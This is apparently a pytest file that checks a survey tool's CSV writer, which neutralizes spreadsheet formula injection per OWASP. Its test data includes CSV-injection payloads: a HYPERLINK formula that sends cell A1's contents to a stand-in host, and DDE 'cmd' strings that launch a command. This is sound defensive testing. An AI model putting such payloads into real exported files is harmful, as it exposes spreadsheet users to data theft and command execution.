"""CSV written for spreadsheets: OWASP's CSV-injection treatment of every cell."""

from __future__ import annotations

import csv

import pytest

from jakisurvey.spreadsheet import safe_cell, write_csv

LINK = '=HYPERLINK("http://x.example/?"&A1,"click")'
HOSTILE = {
    LINK: "'" + LINK,
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "\n=1+1": "'\n=1+1",
}
HARMLESS = ["", "Scandinavia", "1 + 1 = 2", " =1+1 after a space", "'=already quoted", "3",
            "Türkiye"]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_cell_that_would_start_a_formula_gets_a_leading_quote(cell):
    assert safe_cell(cell) == HOSTILE[cell]


@pytest.mark.parametrize("cell", HARMLESS)
def test_other_cells_are_kept_as_they_are(cell):
    assert safe_cell(cell) == cell


def test_numbers_and_none_become_text():
    assert (safe_cell(236), safe_cell(-1), safe_cell(None)) == ("236", "'-1", "")


def test_owasp_examples_are_written_as_the_page_shows(tmp_path):
    # https://owasp.org/www-community/attacks/CSV_Injection, "Two examples"
    path = write_csv(tmp_path / "owasp.csv", ["a", "b"], [['=1+2";=1+2', "=1+2'\" ;,=1+2"]])
    assert path.read_bytes() == (b'\xef\xbb\xbf"a","b"\r\n'
                                 b'"\'=1+2"";=1+2","\'=1+2\'"" ;,=1+2"\r\n')


def test_hostile_cells_read_back_as_text_that_starts_no_formula(tmp_path):
    rows = [[236, "SYN-0236", "country", cell, "=rule"] for cell in [*HOSTILE, *HARMLESS]]
    header = ["row", "record_id", "field", "value", "problem"]
    path = write_csv(tmp_path / "data_quality.csv", header, rows)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        read = list(csv.reader(handle))
    assert read[0] == header
    assert read[1:] == [["236", "SYN-0236", "country", safe_cell(cell), "'=rule"]
                        for cell in [*HOSTILE, *HARMLESS]]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
                   for row in read for cell in row)
